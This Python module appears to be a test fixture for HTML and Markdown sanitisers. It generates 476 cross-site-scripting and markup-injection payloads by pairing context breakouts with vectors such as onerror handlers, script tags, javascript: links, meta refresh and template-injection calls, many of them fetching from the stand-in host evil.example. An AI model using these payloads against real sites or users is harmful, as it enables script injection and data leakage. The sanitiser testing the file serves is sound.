"""Texts that try to become markup, to run a script or to reach another host: 17 ways out times 28 vectors."""

from itertools import product

HOST = "evil.example"
BREAKOUTS = (
    *("", '"', "'", "-->", "]]>", "</title>", "</script>", "</style>", "</textarea>", "</noscript>", "</svg>"),
    *("\"'><br>", "\n\n", "`${", "{{", "<!--", "\u2028"),
)
VECTORS = (
    "<img src=http://{0}/1 onerror=window.pwned=1>",
    "<script>window.pwned=1;fetch('http://{0}/2')</script>",
    "<svg onload=window.pwned=1><image href=http://{0}/3 /></svg>",
    "<iframe src=http://{0}/4></iframe>",
    "<iframe srcdoc='<script>top.pwned=1</script>'></iframe>",
    "<form action=http://{0}/5><input name=q autofocus onfocus=window.pwned=1></form>",
    "<button formaction=http://{0}/6>Press</button>",
    "<object data=http://{0}/7></object>",
    "<embed src=http://{0}/8>",
    "<video src=http://{0}/9 onerror=window.pwned=1></video>",
    "<audio src=http://{0}/10 onerror=window.pwned=1></audio>",
    "<link rel=stylesheet href=http://{0}/11.css>",
    "<style>@import 'http://{0}/12.css'; body {{ display: none }}</style>",
    "<base href=http://{0}/13/>",
    "<meta http-equiv=refresh content='0;url=http://{0}/14'>",
    "<a href=javascript:window.pwned=1>press</a>",
    "<div style='background: url(http://{0}/15)'>x</div>",
    "<math><mtext><img src onerror=window.pwned=1></mtext></math>",
    "<details open ontoggle=window.pwned=1>x</details>",
    "<body onload=alert(1)><marquee onstart=alert(1)>",
    "![x](http://{0}/16.png)",
    "[press](javascript:alert(1))",
    "[x]: http://{0}/17\n![y][x]",
    "${{window.pwned=1}}{{{{constructor.constructor('window.pwned=1')()}}}}",
    "&lt;img src=http://{0}/18 onerror=window.pwned=1&gt;&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "<<script>alert(1)//<</script>",
    "$$\\href{{javascript:alert(1)}}{{x}}$$ \\url{{http://{0}/19}}",
)


def payloads() -> list[str]:
    """Return 476 texts, each another."""
    return [way_out + vector.format(HOST) for way_out, vector in product(BREAKOUTS, VECTORS)]
